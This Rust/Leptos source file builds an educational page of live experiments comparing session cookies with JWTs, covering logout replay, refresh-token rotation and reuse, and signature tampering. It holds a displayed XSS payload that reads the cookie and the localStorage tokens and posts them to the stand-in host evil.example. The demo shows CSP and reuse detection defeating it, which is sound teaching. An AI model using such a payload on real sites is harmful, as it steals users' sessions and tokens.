//! The claims as live experiments: each card states a textbook claim, and its button runs
//! real requests against this server (and reads this browser's storage) to show it. Every
//! number shown comes from a response or from the browser, never from this file.

mod cart;
pub(crate) mod cross_site;
mod memory;
mod samesite;
mod token_replay;

use leptos::lazy;
use leptos::prelude::*;
use leptos::task::spawn_local;
use serde_json::Value;

use crate::api::{
    ACCESS_TOKEN_KEY, CartRequest, DEMO_ACCOUNTS, ErrorCode, JwtMeResponse, LoginRequest, NoFields,
    REFRESH_TOKEN_KEY, RefreshListing, RefreshRequest, RequestBody, SESSION_COOKIE, SessionListing,
    SessionResponse, TokenResponse,
};
use crate::browser::{now_ms, storage};
use crate::client::{self, Body, Exchange, Method};
use crate::comparison::VisitFigures;
use crate::i18n::{ExperimentTexts, LabTexts, Lang, fill_named};
use crate::server_holds::ServerChanged;
use crate::token;

/// A table of texts that result lines take their words from: the experiments' or the lab's.
pub trait LineTexts: 'static {
    fn of(lang: Lang) -> &'static Self;
    /// "✓ as claimed:" and "✗ not as claimed:" in this table's language.
    fn verdicts(&self) -> (&'static str, &'static str);
}

impl LineTexts for ExperimentTexts {
    fn of(lang: Lang) -> &'static Self {
        lang.experiment_texts()
    }

    fn verdicts(&self) -> (&'static str, &'static str) {
        (self.as_claimed, self.not_as_claimed)
    }
}

impl LineTexts for LabTexts {
    fn of(lang: Lang) -> &'static Self {
        lang.lab_texts()
    }

    fn verdicts(&self) -> (&'static str, &'static str) {
        (self.as_claimed, self.not_as_claimed)
    }
}

/// One line of an experiment's result: whether it shows the claim holding (if it is a check),
/// a label in the visitor's language, and what was measured.
pub struct Line<T: 'static = ExperimentTexts> {
    pub ok: Option<bool>,
    pub label: fn(&T) -> &'static str,
    pub detail: Detailed<T>,
}

// By hand: a derive would ask `T: Clone` of the text table, which only lends its fields.
impl<T> Clone for Line<T> {
    fn clone(&self) -> Self {
        Line {
            ok: self.ok,
            label: self.label,
            detail: self.detail.clone(),
        }
    }
}

/// What a line shows after its label: what was measured, as is (a header, a status), or a
/// phrase in the page's language with the measured figures in its named placeholders, so it
/// follows the language switch and each language keeps its own word order.
pub enum Detailed<T: 'static> {
    Measured(String),
    Worded(fn(&T) -> &'static str, Vec<(&'static str, String)>),
}

/// An experiment line's detail; the lab's claims have `Detailed<LabTexts>`.
pub type Detail = Detailed<ExperimentTexts>;

impl<T> Clone for Detailed<T> {
    fn clone(&self) -> Self {
        match self {
            Detailed::Measured(text) => Detailed::Measured(text.clone()),
            Detailed::Worded(template, values) => Detailed::Worded(*template, values.clone()),
        }
    }
}

impl<T> Detailed<T> {
    /// A sentence in the page's language rather than a value as measured.
    fn is_prose(&self) -> bool {
        matches!(self, Detailed::Worded(..))
    }

    fn text(&self, texts: &T) -> String {
        match self {
            Detailed::Measured(text) => text.clone(),
            Detailed::Worded(template, values) => fill_named(template(texts), values),
        }
    }
}

impl<T> From<String> for Detailed<T> {
    fn from(text: String) -> Self {
        Detailed::Measured(text)
    }
}

impl<T> From<&str> for Detailed<T> {
    fn from(text: &str) -> Self {
        Detailed::Measured(text.to_owned())
    }
}

/// A line labelled from any text table (the lab's claims use their own).
pub(crate) fn line_of<T>(
    ok: impl Into<Option<bool>>,
    label: fn(&T) -> &'static str,
    detail: impl Into<Detailed<T>>,
) -> Line<T> {
    Line {
        ok: ok.into(),
        label,
        detail: detail.into(),
    }
}

/// An experiment's line.
pub(crate) fn line(
    ok: impl Into<Option<bool>>,
    label: fn(&ExperimentTexts) -> &'static str,
    detail: impl Into<Detail>,
) -> Line {
    line_of(ok, label, detail)
}

pub(crate) fn alice() -> LoginRequest {
    DEMO_ACCOUNTS[0].login()
}

/// The body of a refresh or a token logout.
pub(crate) fn refresh_request(token: &str) -> RefreshRequest {
    RefreshRequest {
        refresh_token: token.to_owned(),
    }
}

pub(crate) async fn get(path: &str, bearer: Option<&str>) -> Exchange {
    client::send(Method::Get, path, None, bearer.map(str::to_owned)).await
}

pub(crate) async fn post(path: &str, body: &impl RequestBody) -> Exchange {
    client::send(Method::Post, path, Some(Body::of(body)), None).await
}

pub(crate) fn status(exchange: &Exchange) -> String {
    let code = exchange
        .status
        .map_or_else(|| "—".to_owned(), |code| code.to_string());
    match exchange.error_code() {
        Some(error) => format!(
            "{} {} {code} {error}",
            exchange.method.as_str(),
            exchange.path
        ),
        None => format!("{} {} {code}", exchange.method.as_str(), exchange.path),
    }
}

/// A token login; the tokens as answered.
pub(crate) async fn token_login() -> (Exchange, String, String) {
    let exchange = post("/api/jwt/login", &alice()).await;
    let (access, refresh) = exchange
        .json::<TokenResponse>()
        .map(|tokens| (tokens.access_token, tokens.refresh_token))
        .unwrap_or_default();
    (exchange, access, refresh)
}

// --- 1. A session login creates a store row; a token login does not ----------------------

/// A store listing, decoded: this visitor's rows and the server's total.
async fn listing<T: serde::de::DeserializeOwned>(path: &str) -> Option<T> {
    serde_json::from_value(get(path, None).await.body).ok()
}

/// The store operations a response's trace reports, as `(op, key)`.
fn store_ops(exchange: &Exchange) -> Vec<(String, String)> {
    exchange
        .trace()
        .map(|trace| trace.store.into_iter().map(|op| (op.op, op.key)).collect())
        .unwrap_or_default()
}

#[lazy]
async fn store_rows() -> Vec<Line> {
    // Matched by id rather than by counting, so other visitors' logins cannot blur it.
    let session_login = post("/api/session/login", &alice()).await;
    let session_id = session_login
        .json::<SessionResponse>()
        .map(|answer| answer.session.id)
        .unwrap_or_default();
    let sessions = listing::<SessionListing>("/api/session/store").await;
    let (token_login, _, _) = token_login().await;
    let writes = store_ops(&token_login);
    let families = listing::<RefreshListing>("/api/jwt/refresh-store").await;
    let family = writes
        .first()
        .map(|(_, key)| key.clone())
        .unwrap_or_default();
    let session_listed = sessions
        .as_ref()
        .is_some_and(|listing| listing.sessions.iter().any(|row| row.id == session_id));
    let family_listed = families
        .as_ref()
        .is_some_and(|listing| listing.families.iter().any(|row| row.family == family));
    let held = |yours: Option<usize>, total: Option<usize>| {
        let figure = |n: Option<usize>| n.map_or_else(|| "?".to_owned(), |n| n.to_string());
        format!("{} ({})", figure(yours), figure(total))
    };
    vec![
        line(
            !session_id.is_empty() && session_listed,
            |t| t.e1_session_rows,
            session_id.clone(),
        ),
        line(
            writes.len() == 1 && family_listed,
            |t| t.e1_token_rows,
            format!("{} · {family}", writes.len()),
        ),
        line(
            None,
            |t| t.e1_refresh_rows,
            format!(
                "{} / {}",
                held(
                    families.as_ref().map(|l| l.counts.yours),
                    families.as_ref().map(|l| l.counts.total)
                ),
                held(
                    sessions.as_ref().map(|l| l.counts.yours),
                    sessions.as_ref().map(|l| l.counts.total)
                ),
            ),
        ),
    ]
}

// --- 2. The browser sends the cookie by itself; the token must be attached by code --------

#[lazy]
async fn who_attaches() -> Vec<Line> {
    post("/api/session/login", &alice()).await;
    let (_, access, _) = token_login().await;
    let session_me = get("/api/session/me", None).await;
    let cookie_sent = session_me
        .traced("received")
        .iter()
        .any(|(name, value)| name == "cookie" && value.contains(SESSION_COOKIE));
    let bare = get("/api/jwt/me", None).await;
    let attached = get("/api/jwt/me", Some(&access)).await;
    vec![
        line(
            cookie_sent && session_me.ok(),
            |t| t.e2_cookie_by_browser,
            status(&session_me),
        ),
        line(bare.status == Some(401), |t| t.e2_no_header, status(&bare)),
        line(attached.ok(), |t| t.e2_header_by_code, status(&attached)),
    ]
}

// --- 3. An XSS payload: what it can read, what it can ride, what the CSP stops -------------

/// What experiment 3's payload tries to send away (to a site of its own, not to this API).
#[derive(serde::Serialize)]
struct Loot<'a> {
    cookie: &'a str,
    access: &'a str,
    refresh: &'a str,
}

/// The address the payload sends its loot to: another origin, which the page's
/// `connect-src 'self'` forbids.
pub const EXFILTRATION_URL: &str = "https://evil.example/steal";

/// What the injected script runs, shown on the card. The experiment makes exactly these
/// reads and requests through the same browser APIs (the page's strict CSP allows no `eval`,
/// so the payload cannot be injected as text); the attacker's part runs with no cookies.
pub const XSS_PAYLOAD: &str = r#"// 1. read what page scripts can read
const loot = { cookie: document.cookie,
  access: localStorage.getItem('authlens.access_token'),
  refresh: localStorage.getItem('authlens.refresh_token') };
// 2. ride the HttpOnly cookie: a request from the page carries it
fetch('/api/session/cart', { method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: '{"item":"added by the XSS payload"}' });
// 3. send the loot away
fetch('https://evil.example/steal',
  { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
// 4. on the attacker's machine, with no cookies:
//    POST /api/jwt/refresh {"refresh_token": loot.refresh}"#;

/// The item the payload adds to the victim's cart with the cookie it cannot read.
const PAYLOAD_CART_ITEM: &str = "added by the XSS payload";

#[lazy]
async fn xss() -> Vec<Line> {
    // The victim: logged in on both columns, as this very page keeps it (the column's
    // cookie and tokens are these).
    post("/api/session/login", &alice()).await;
    let (_, access, refresh) = token_login().await;
    storage::save(ACCESS_TOKEN_KEY, &access);
    storage::save(REFRESH_TOKEN_KEY, &refresh);

    // 1. What the payload reads.
    let stolen_cookie = crate::browser::document_cookie();
    let stolen_access = storage::load(ACCESS_TOKEN_KEY).unwrap_or_default();
    let stolen_refresh = storage::load(REFRESH_TOKEN_KEY).unwrap_or_default();

    // 2. It rides the cookie it cannot read: the browser attaches it to the page's request.
    let ridden = post(
        "/api/session/cart",
        &CartRequest {
            item: PAYLOAD_CART_ITEM.to_owned(),
        },
    )
    .await;
    let cookie_attached = ridden
        .traced("received")
        .iter()
        .any(|(name, value)| name == "cookie" && value.contains(SESSION_COOKIE));
    let item_added = ridden
        .json::<SessionResponse>()
        .is_some_and(|answer| answer.cart.iter().any(|item| item == PAYLOAD_CART_ITEM));

    // 3. It sends the loot away; the page's CSP has the last word.
    let loot = Loot {
        cookie: &stolen_cookie,
        access: &stolen_access,
        refresh: &stolen_refresh,
    };
    let loot = serde_json::to_string(&loot).unwrap_or_default();
    let exfiltration = crate::browser::try_exfiltration(EXFILTRATION_URL, loot).await;

    // 4. The attacker, elsewhere (no cookies of this origin): the stolen refresh token mints
    // a fresh pair, and the fresh access token works.
    let stranger = |method, path: &'static str, body, bearer| {
        client::send_without_cookies(method, path, body, bearer)
    };
    let minted = stranger(
        Method::Post,
        "/api/jwt/refresh",
        Some(Body::of(&refresh_request(&stolen_refresh))),
        None,
    )
    .await;
    let minted_cookieless = minted
        .traced("received")
        .iter()
        .all(|(name, _)| name != "cookie");
    let (attacker_access, attacker_refresh) = minted
        .json::<TokenResponse>()
        .map(|tokens| (tokens.access_token, tokens.refresh_token))
        .unwrap_or_default();
    let as_victim = stranger(Method::Get, "/api/jwt/me", None, Some(attacker_access)).await;
    let victim = as_victim
        .json::<JwtMeResponse>()
        .map(|answer| answer.user.display_name)
        .unwrap_or_default();

    // 5. The victim's client refreshes with the token it holds, which the attacker spent:
    // reuse detection revokes the family, and the attacker's new token dies with it.
    let victim_refresh = post("/api/jwt/refresh", &refresh_request(&refresh)).await;
    let attacker_again = stranger(
        Method::Post,
        "/api/jwt/refresh",
        Some(Body::of(&refresh_request(&attacker_refresh))),
        None,
    )
    .await;
    // The victim's client, refused, forgets its tokens (the column shows it signed out).
    storage::remove(ACCESS_TOKEN_KEY);
    storage::remove(REFRESH_TOKEN_KEY);

    let violation = exfiltration
        .violation
        .clone()
        .map(|(directive, blocked)| format!("{directive} · {blocked}"));
    vec![
        line(
            !stolen_cookie.contains(SESSION_COOKIE),
            |t| t.e3_cookie_read,
            format!("document.cookie = {stolen_cookie:?}"),
        ),
        line(
            !stolen_access.is_empty() && !stolen_refresh.is_empty(),
            |t| t.e3_token_read,
            Detail::Worded(
                |t| t.e3_token_read_detail,
                vec![
                    ("access", stolen_access.len().to_string()),
                    ("refresh", stolen_refresh.len().to_string()),
                ],
            ),
        ),
        line(
            ridden.ok() && cookie_attached && item_added,
            |t| t.e3_cookie_ridden,
            status(&ridden),
        ),
        line(
            exfiltration.failed.is_some() && violation.is_some(),
            |t| t.e3_csp_refused,
            violation.unwrap_or_else(|| {
                exfiltration
                    .failed
                    .clone()
                    .unwrap_or_else(|| "—".to_owned())
            }),
        ),
        line(
            minted.ok() && minted_cookieless,
            |t| t.e3_refresh_minted,
            status(&minted),
        ),
        line(
            as_victim.ok(),
            |t| t.e3_token_used,
            format!("{} → {victim}", status(&as_victim)),
        ),
        line(
            victim_refresh.error_code() == Some(ErrorCode::RefreshTokenReused),
            |t| t.e3_victim_reuse,
            status(&victim_refresh),
        ),
        line(
            attacker_again.error_code() == Some(ErrorCode::RefreshTokenRevoked),
            |t| t.e3_family_dead,
            status(&attacker_again),
        ),
    ]
}

// --- 4. Session logout kills the old cookie at once ---------------------------------------

#[lazy]
async fn replay_cookie(figures: VisitFigures) -> Vec<Line> {
    post("/api/session/login", &alice()).await;
    let before = get("/api/session/me", None).await;
    // The record goes; the browser keeps its cookie, as a copy taken before logout would.
    let logout = post("/api/session/logout?keep_cookie=true", &NoFields {}).await;
    let logged_out_at = now_ms();
    let replay = get("/api/session/me", None).await;
    // `invalid_session`, not `no_session`: the cookie was sent, and refused.
    let refused = replay.error_code() == Some(ErrorCode::InvalidSession);
    if logout.ok() && refused {
        figures
            .session_refused_after_ms
            .set(Some(now_ms() - logged_out_at));
    }
    // Tidy up: a real logout, so the browser forgets the dead cookie.
    post("/api/session/logout", &NoFields {}).await;
    vec![
        line(before.ok(), |t| t.e4_before, status(&before)),
        line(logout.ok(), |t| t.e4_logout, status(&logout)),
        line(refused, |t| t.e4_replay, status(&replay)),
    ]
}

// --- 6. Refresh tokens: revoked at logout, and reuse revokes the family -------------------

#[lazy]
async fn refresh_rules() -> Vec<Line> {
    let refresh = |token: &str| {
        let request = refresh_request(token);
        async move { post("/api/jwt/refresh", &request).await }
    };
    let (_, _, first) = token_login().await;
    let rotated = refresh(&first).await;
    let second = rotated
        .json::<TokenResponse>()
        .map(|tokens| tokens.refresh_token)
        .unwrap_or_default();
    let reuse = refresh(&first).await;
    let newest = refresh(&second).await;
    let (_, _, other) = token_login().await;
    post("/api/jwt/logout", &refresh_request(&other)).await;
    let after_logout = refresh(&other).await;
    vec![
        line(rotated.ok(), |t| t.e6_rotate, status(&rotated)),
        line(
            reuse.error_code() == Some(ErrorCode::RefreshTokenReused),
            |t| t.e6_reuse,
            status(&reuse),
        ),
        line(
            newest.error_code() == Some(ErrorCode::RefreshTokenRevoked),
            |t| t.e6_family,
            status(&newest),
        ),
        line(
            after_logout.status == Some(401),
            |t| t.e6_after_logout,
            status(&after_logout),
        ),
    ]
}

// --- 8. One changed payload character breaks the signature --------------------------------

#[lazy]
async fn tamper() -> Vec<Line> {
    let (_, access, _) = token_login().await;
    let Some(tampered) = token::tamper_payload(&access) else {
        return vec![line(false, |t| t.e8_original, "—")];
    };
    let sub = |token: &str| {
        token::decode(token)
            .ok()
            .and_then(|decoded| {
                decoded
                    .payload
                    .get("sub")
                    .and_then(Value::as_str)
                    .map(str::to_owned)
            })
            .unwrap_or_default()
    };
    let original = get("/api/jwt/me", Some(&access)).await;
    let forged = get("/api/jwt/me", Some(&tampered)).await;
    let reason = forged.message();
    vec![
        line(
            original.ok(),
            |t| t.e8_original,
            format!("sub = {:?} · {}", sub(&access), status(&original)),
        ),
        line(
            forged.status == Some(401),
            |t| t.e8_tampered,
            // The API answers in English; the Korean page says whose words they are.
            Detail::Worded(
                |t| t.e8_tampered_detail,
                vec![
                    ("sub", format!("{:?}", sub(&tampered))),
                    ("status", status(&forged)),
                    ("reason", reason),
                ],
            ),
        ),
    ]
}

/// What `HttpOnly` protects and what it does not, what CSP adds, and where tokens can live
/// instead: the lesson experiment 3 measures, in a short table.
#[component]
fn XssTruths() -> impl IntoView {
    let lang = crate::i18n::use_lang();
    let texts = move || lang.get().experiment_texts();
    type Text = fn(&ExperimentTexts) -> &'static str;
    let rows: [(Text, Text, Text); 3] = [
        (
            |t| t.e3_row_read,
            |t| t.e3_cookie_read_cell,
            |t| t.e3_storage_read_cell,
        ),
        (
            |t| t.e3_row_use_open,
            |t| t.e3_cookie_use_open_cell,
            |t| t.e3_storage_use_open_cell,
        ),
        (
            |t| t.e3_row_use_later,
            |t| t.e3_cookie_use_later_cell,
            |t| t.e3_storage_use_later_cell,
        ),
    ];
    view! {
        <crate::widgets::TableScroll label=Signal::derive(move || texts().e3_table_caption)>
            <table class="xss-truths">
                <caption>{move || texts().e3_table_caption}</caption>
                <thead>
                    <tr>
                        <th scope="col">{move || texts().e3_col_payload}</th>
                        <th scope="col">{move || texts().e3_col_cookie}</th>
                        <th scope="col">{move || texts().e3_col_storage}</th>
                    </tr>
                </thead>
                <tbody>
                    {rows.into_iter().map(|(row, cookie, storage)| view! {
                        <tr>
                            <th scope="row">{move || row(texts())}</th>
                            <td>{move || cookie(texts())}</td>
                            <td>{move || storage(texts())}</td>
                        </tr>
                    }).collect_view()}
                </tbody>
            </table>
        </crate::widgets::TableScroll>
        <p class="muted">{move || texts().e3_csp_note}</p>
        <p class="muted">{move || texts().e3_where_instead}</p>
    }
}

/// A started experiment: the requests it makes, then its lines.
type Run = std::pin::Pin<Box<dyn std::future::Future<Output = Vec<Line>>>>;

/// An experiment that runs once per click and shows its lines.
#[component]
fn Experiment(
    number: u8,
    title: fn(&ExperimentTexts) -> &'static str,
    claim: fn(&ExperimentTexts) -> &'static str,
    run: fn(VisitFigures) -> Run,
    /// Spans the whole row (experiment 3's payload and table).
    #[prop(optional)]
    wide: bool,
    #[prop(optional)] children: Option<Children>,
) -> impl IntoView {
    let server_changed = expect_context::<ServerChanged>();
    let figures = expect_context::<VisitFigures>();
    let lines = RwSignal::new(None::<Vec<Line>>);
    let running = RwSignal::new(false);
    let start = move || {
        running.set(true);
        spawn_local(async move {
            let result = run(figures).await;
            lines.set(Some(result));
            running.set(false);
            server_changed.bump();
        });
    };
    view! {
        <Card number title claim wide>
            {children.map(|children| children())}
            <RunButton number running on_run=start/>
            <ResultLines lines test_id=format!("experiment-{number}-result")/>
        </Card>
    }
}

/// The frame every experiment shares: its number, title and claim, then what it shows.
#[component]
pub(crate) fn Card(
    number: u8,
    title: fn(&ExperimentTexts) -> &'static str,
    claim: fn(&ExperimentTexts) -> &'static str,
    /// Spans the whole row (for charts and frames).
    #[prop(optional)]
    wide: bool,
    children: Children,
) -> impl IntoView {
    let lang = crate::i18n::use_lang();
    let texts = move || lang.get().experiment_texts();
    let heading_id = format!("experiment-{number}-title");
    let labelled_by = heading_id.clone();
    view! {
        <article class="experiment" class:wide=wide aria-labelledby=labelled_by>
            <h3 id=heading_id>{format!("{number}. ")}{move || title(texts())}</h3>
            <p>{move || claim(texts())}</p>
            {children()}
        </article>
    }
}

/// "Run", or "Running…" and disabled while the experiment runs; named "Run experiment 3" for
/// a screen reader's list of buttons, where ten "Run"s would say nothing.
#[component]
pub(crate) fn RunButton(
    number: u8,
    running: RwSignal<bool>,
    on_run: impl Fn() + 'static,
) -> impl IntoView {
    let lang = crate::i18n::use_lang();
    let texts = move || lang.get().experiment_texts();
    let name = move || fill_named(texts().run_experiment, &[("number", number.to_string())]);
    view! {
        <button type="button" aria-label=name on:click=move |_| on_run() disabled=move || running.get()>
            {move || if running.get() { texts().running } else { texts().run }}
        </button>
    }
}

#[component]
pub(crate) fn ResultLines<T: LineTexts>(
    lines: RwSignal<Option<Vec<Line<T>>>>,
    test_id: String,
) -> impl IntoView {
    let lang = crate::i18n::use_lang();
    let texts = move || T::of(lang.get());
    view! {
        // The status wraps the list: a list with a role of its own is no list, and its items
        // would be orphans.
        <div role="status" data-testid=test_id>
        <ul class="result-lines">
            {move || {
                lines.get().unwrap_or_default().into_iter().map(|line| {
                    let (as_claimed, not_as_claimed) = texts().verdicts();
                    let verdict = match line.ok {
                        Some(true) => as_claimed,
                        Some(false) => not_as_claimed,
                        None => "",
                    };
                    view! {
                        <li class:passed=line.ok == Some(true) class:failed=line.ok == Some(false)>
                            {(!verdict.is_empty()).then(|| view! { <strong>{verdict}</strong> " " })}
                            {(line.label)(texts())}
                            ": "
                            // A value as measured is code; a sentence reads as prose.
                            {if line.detail.is_prose() {
                                view! { <span class="prose">{move || line.detail.text(texts())}</span> }.into_any()
                            } else {
                                view! { <code>{move || line.detail.text(texts())}</code> }.into_any()
                            }}
                        </li>
                    }
                }).collect_view()
            }}
        </ul>
        </div>
    }
}

/// An experiment's function as a `run` prop; `measures` passes it the visit's figures.
macro_rules! boxed {
    ($f:path) => {
        |_| Box::pin($f())
    };
    ($f:path, measures) => {
        |figures| Box::pin($f(figures))
    };
}

#[component]
pub fn Experiments() -> AnyView {
    let lang = crate::i18n::use_lang();
    let texts = move || lang.get().experiment_texts();
    view! {
        <section class="experiments" aria-labelledby="experiments-title">
            <h2 id="experiments-title">{move || texts().section_title}</h2>
            <p class="muted">{move || texts().section_intro}</p>
            <div class="experiment-grid">
                <Experiment number=1 title=|t| t.e1_title claim=|t| t.e1_claim run=boxed!(store_rows)/>
                <Experiment number=2 title=|t| t.e2_title claim=|t| t.e2_claim run=boxed!(who_attaches)/>
                <Experiment number=3 title=|t| t.e3_title claim=|t| t.e3_claim run=boxed!(xss) wide=true>
                    <p class="muted">{move || texts().e3_replaces}</p>
                    <pre class="payload" tabindex="0"><code>{XSS_PAYLOAD}</code></pre>
                    <XssTruths/>
                </Experiment>
                <Experiment number=4 title=|t| t.e4_title claim=|t| t.e4_claim run=boxed!(replay_cookie, measures)/>
                <token_replay::TokenReplay/>
                <Experiment number=6 title=|t| t.e6_title claim=|t| t.e6_claim run=boxed!(refresh_rules)/>
                <cart::CartGrowth/>
                <Experiment number=8 title=|t| t.e8_title claim=|t| t.e8_claim run=boxed!(tamper)/>
                <cross_site::CrossSite/>
                <memory::MemoryGrowth/>
                <samesite::SameSiteTruth/>
            </div>
        </section>
    }
    .into_any()
}
